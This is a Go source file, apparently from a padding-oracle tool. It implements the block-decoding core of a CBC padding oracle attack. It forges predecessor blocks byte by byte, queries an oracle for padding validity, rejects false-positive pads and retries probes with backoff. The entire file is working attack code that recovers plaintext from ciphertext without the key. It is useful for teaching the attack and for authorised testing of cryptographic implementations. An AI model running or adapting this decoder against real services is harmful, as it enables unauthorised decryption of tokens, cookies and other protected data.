package attack

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/cenkalti/backoff/v4"

	"github.com/mario-areias/padding-oracle/oracle"
)

// BlockState is the recovered plaintext of one ciphertext block.
type BlockState struct {
	// Index is the position of the block in the ciphertext, starting at 1.
	Index int

	// Bytes is indexed like the block: Bytes[i] is the plaintext byte at i.
	Bytes []byte

	// PadLength is the number of trailing pad bytes. Only the final block has
	// one.
	PadLength int
}

// Plaintext returns Bytes without the pad.
func (s *BlockState) Plaintext() []byte {
	return s.Bytes[:len(s.Bytes)-s.PadLength]
}

type decoder struct {
	oracle    oracle.Oracle
	scheduler Scheduler
	cfg       Config
	logger    *slog.Logger
}

// step is a state of the per-position search.
type step int

const (
	stepSelect step = iota
	stepProbe
	stepAccept
	stepDisambiguate
	stepFail
)

// run holds the buffers of one block decoding. query is
// prefix || forged || curr and only forged changes between probes.
type run struct {
	*decoder
	pair   pair
	state  *BlockState
	query  []byte
	forged []byte
}

// decode recovers every plaintext byte of p.curr, last byte first.
//
// CBC decrypts curr as D(curr) ^ prev, so sending prev ^ delta in place of
// prev makes curr decrypt to plaintext ^ delta. The oracle only looks at the
// trailing bytes of that, so each byte can be guessed on its own: a guess is
// right when forcing it to the pad value gives a valid pad.
func (d *decoder) decode(ctx context.Context, p pair) (*BlockState, error) {
	if err := ctx.Err(); err != nil {
		return nil, cancelled(ctx)
	}

	n := len(p.curr)
	query := make([]byte, len(p.prefix)+2*n)
	copy(query, p.prefix)
	copy(query[len(p.prefix)+n:], p.curr)

	r := &run{
		decoder: d,
		pair:    p,
		state:   &BlockState{Index: p.index, Bytes: make([]byte, n)},
		query:   query,
		forged:  query[len(p.prefix) : len(p.prefix)+n],
	}

	d.logger.Debug("decoding block", "block", p.index, "final", p.final)

	i := n - 1
	if p.final {
		g, err := r.position(ctx, i, PhasePadLength)
		if err != nil {
			return nil, err
		}

		padLen := int(g)
		r.state.PadLength = padLen
		for j := n - padLen; j < n; j++ {
			r.state.Bytes[j] = g
		}
		d.logger.Debug("found pad", "block", p.index, "length", padLen)

		// a pad of n bytes leaves nothing to decode
		i = n - 1 - padLen
	}

	for ; i >= 0; i-- {
		b, err := r.position(ctx, i, PhaseCharacter)
		if err != nil {
			return nil, err
		}
		r.state.Bytes[i] = b
	}

	d.logger.Debug("decoded block", "block", p.index)
	return r.state, nil
}

// position finds the plaintext byte at i. The first candidate the oracle
// accepts wins, except at the last byte where the answer is confirmed first.
func (r *run) position(ctx context.Context, i int, phase Phase) (byte, error) {
	candidates := r.scheduler.NextCandidates(phase)
	next := 0
	var guess byte

	s := stepSelect
	for {
		switch s {
		case stepSelect:
			if next == len(candidates) {
				s = stepFail
				continue
			}
			guess = candidates[next]
			next++
			r.forge(i, guess)
			s = stepProbe

		case stepProbe:
			valid, err := r.probe(ctx)
			if err != nil {
				return 0, r.fail(i, phase, err)
			}
			if !valid {
				s = stepSelect
				continue
			}
			s = stepAccept

		case stepAccept:
			if i == len(r.forged)-1 {
				s = stepDisambiguate
				continue
			}
			return guess, nil

		case stepDisambiguate:
			ok, err := r.confirmLastByte(ctx)
			if err != nil {
				return 0, r.fail(i, phase, err)
			}
			if !ok {
				r.logger.Debug("rejected false positive", "block", r.pair.index, "guess", guess)
				s = stepSelect
				continue
			}
			return guess, nil

		case stepFail:
			return 0, &OracleExhaustedError{Block: r.pair.index, Position: i, Phase: phase}
		}
	}
}

// forge writes the forged predecessor for guessing byte i: bytes after i are
// set to decrypt to the pad value n-i, byte i decrypts to it only if guess is
// right, and bytes before i are left as they were.
func (r *run) forge(i int, guess byte) {
	n := len(r.forged)
	pad := byte(n - i)
	prev := r.pair.prev
	known := r.state.Bytes

	copy(r.forged[:i], prev[:i])
	for j := i + 1; j < n; j++ {
		r.forged[j] = prev[j] ^ known[j] ^ pad
	}
	r.forged[i] = prev[i] ^ guess ^ pad
}

// confirmLastByte tells a real one byte pad apart from a longer pad that was
// already there (the plaintext ends in 2,2 or 3,3,3 ...). Changing the
// second to last byte breaks every pad except the one byte pad.
func (r *run) confirmLastByte(ctx context.Context) (bool, error) {
	n := len(r.forged)
	r.forged[n-2] ^= 1
	defer func() { r.forged[n-2] ^= 1 }()

	return r.probe(ctx)
}

// probe queries the oracle, retrying transport failures with backoff.
func (r *run) probe(ctx context.Context) (bool, error) {
	var valid bool
	op := func() error {
		pctx, cancel := r.probeContext(ctx)
		defer cancel()

		v, err := r.oracle.Probe(pctx, r.query)
		if err != nil {
			if ctx.Err() != nil {
				return backoff.Permanent(ctx.Err())
			}
			return err
		}
		valid = v
		return nil
	}
	notify := func(err error, wait time.Duration) {
		r.logger.Debug("probe failed, retrying", "block", r.pair.index, "wait", wait, "err", err)
	}

	b := backoff.NewExponentialBackOff()
	b.InitialInterval = r.cfg.RetryInterval
	b.MaxElapsedTime = 0

	err := backoff.RetryNotify(op, backoff.WithContext(backoff.WithMaxRetries(b, uint64(r.cfg.MaxRetries)), ctx), notify)
	if ctx.Err() != nil {
		return false, cancelled(ctx)
	}
	if err != nil {
		var pe *oracle.ProbeError
		if !errors.As(err, &pe) {
			err = &oracle.ProbeError{Err: err}
		}
		return false, err
	}
	return valid, nil
}

func (r *run) probeContext(ctx context.Context) (context.Context, context.CancelFunc) {
	if r.cfg.ProbeTimeout > 0 {
		return context.WithTimeout(ctx, r.cfg.ProbeTimeout)
	}
	return context.WithCancel(ctx)
}

func (r *run) fail(i int, phase Phase, err error) error {
	if errors.Is(err, ErrCancelled) {
		return err
	}
	return &OracleExhaustedError{Block: r.pair.index, Position: i, Phase: phase, Err: err}
}

func cancelled(ctx context.Context) error {
	return fmt.Errorf("%w: %w", ErrCancelled, context.Cause(ctx))
}
